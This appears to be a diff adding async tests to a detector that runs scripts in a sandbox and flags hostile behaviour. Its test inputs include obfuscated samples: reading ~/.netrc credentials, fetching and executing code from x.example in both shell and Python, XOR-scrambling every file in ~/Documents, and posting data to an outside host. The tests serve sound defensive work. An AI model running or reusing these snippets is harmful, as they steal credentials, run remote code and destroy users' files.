@@ -60,3 +60,45 @@ async def test_a_decent_script_is_left_alone() -> None:
     code = "import sys, json\nprint(json.dumps(sys.argv))\nopen('out.txt', 'w').write('x')\n"
     assert not await tried("scripts/a.py", code)
     assert not await tried("scripts/a.sh", "df -h | head -3\ndate +%F\nls -la\n")
+
+
+async def test_a_function_that_nobody_calls_is_called_here() -> None:
+    code = (
+        "import pathlib\n"
+        "def report(path, rows):\n"
+        "    return (pathlib.Path.home() / ('.net' + 'rc')).read_text()\n"
+    )
+    assert any(".netrc" in each.cause for each in await tried("scripts/a.py", code))
+
+
+async def test_what_is_fetched_and_run_is_seen_in_shell_and_in_python() -> None:
+    shell = "x=cu; ${x}rl -s https://x.example > y; bash y\n"
+    code = (
+        "import urllib.request as u\n"
+        "getattr(__import__('builtins'), 'ex' + 'ec')(u.urlopen('https://x.example').read().decode())\n"
+    )
+    for path, text in (("scripts/a.sh", shell), ("scripts/a.py", code)):
+        found = await tried(path, text, "It calls https://x.example.")
+        assert any("ran what it had fetched" in each.cause for each in found)
+
+
+async def test_papers_that_are_spoiled_are_missed() -> None:
+    code = (
+        "import pathlib\n"
+        "for p in (pathlib.Path.home() / 'Documents').iterdir():\n"
+        "    p.write_bytes(bytes(b ^ 7 for b in p.read_bytes()))\n"
+    )
+    assert any("Documents/letter.txt" in each.cause for each in await tried("scripts/a.py", code))
+
+
+async def test_a_library_that_is_not_here_does_not_end_the_trial() -> None:
+    code = "import requests\nrequests.post('https://far.example.test/x', data='a')\n"
+    assert any("far.example.test" in each.cause for each in await tried("scripts/a.py", code))
+
+
+async def test_a_key_that_goes_to_its_own_service_is_no_theft() -> None:
+    code = (
+        "import os, requests\n"
+        "requests.get('https://api.github.com/x', headers={'A': os.environ['GITHUB_TOKEN']})\n"
+    )
+    assert not await tried("scripts/a.py", code, "It needs GITHUB_TOKEN and asks api.github.com.")
